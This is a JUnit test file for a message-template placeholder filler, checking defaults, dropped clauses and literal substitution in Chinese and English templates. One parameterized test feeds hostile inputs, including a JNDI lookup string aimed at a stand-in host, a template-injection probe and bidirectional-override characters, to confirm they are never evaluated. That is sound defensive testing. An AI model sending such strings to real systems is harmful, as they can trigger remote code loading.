package io.renhua.dialogue;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PlaceholdersTest {

    @Test
    void fillsInWhatIsKnownAndTheDefaultWhereItIsNot() {
        assertThat(fill("{name|朋友}，{order_no}到了", Map.of("order_no", "SP1"))).isEqualTo("朋友，SP1到了");
    }

    @Test
    void neverReadsAValueAgain() {
        assertThat(fill("Hello {name}!", Map.of("name", "{nickname} $1 \\", "nickname", "Pao")))
                .isEqualTo("Hello {nickname} $1 \\!");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{nickname|x}",
                "{{7*7}}",
                "${jndi:ldap://evil.example/a}",
                "$1 \\1 \\",
                "a\u202Ecba\u202C \u2066b\u2069"
            })
    void showsAValueCharacterByCharacterWhateverLanguageItIsWrittenIn(String value) {
        assertThat(fill("Hello {name}, bye {name|friend}.", Map.of("name", value, "nickname", "Pao")))
                .isEqualTo("Hello " + value + ", bye " + value + ".");
        assertThat(fill("By {day}. Hello {name}, bye.", Map.of("name", value, "nickname", "Pao")))
                .isEqualTo("Hello " + value + ", bye.");
    }

    @Test
    void leavesOutTheClauseWhoseValueIsMissing() {
        assertThat(fill("我是{nickname}，{agent}先忙，接下來找我。", Map.of("nickname", "泡小拾")))
                .isEqualTo("我是泡小拾，接下來找我。");
        assertThat(fill("現在沒人在，{opens}回你。要先留話嗎？", Map.of())).isEqualTo("現在沒人在。要先留話嗎？");
        assertThat(fill("{nickname} again; {agent} has stepped out.", Map.of("nickname", "Pao")))
                .isEqualTo("Pao again.");
        assertThat(fill("查不到{order_no}，是不是少打一碼？", Map.of())).isEqualTo("是不是少打一碼？");
        assertThat(fill("On {day}, we are open. Come in.", Map.of())).isEqualTo("We are open. Come in.");
    }

    @Test
    void saysWhatIsLeftWhenEveryClauseNeedsSomethingMissing() {
        assertThat(fill("{agent} is here.", Map.of())).isEqualTo("is here.");
    }

    @Test
    void doesNotTakeAnAddressOrATimeForTheEndOfAClause() {
        assertThat(fill("在 https://a.example/b?c=d 看，{eta}到。", Map.of())).isEqualTo("在 https://a.example/b?c=d 看。");
        assertThat(fill("09:30 開門，{eta}到。", Map.of())).isEqualTo("09:30 開門。");
    }

    @Test
    void leavesOtherBracesAlone() {
        assertThat(fill("{ not one } {}", Map.of())).isEqualTo("{ not one } {}");
    }

    private static String fill(String template, Map<String, String> values) {
        return Placeholders.fill(template, name -> Optional.ofNullable(values.get(name)));
    }
}
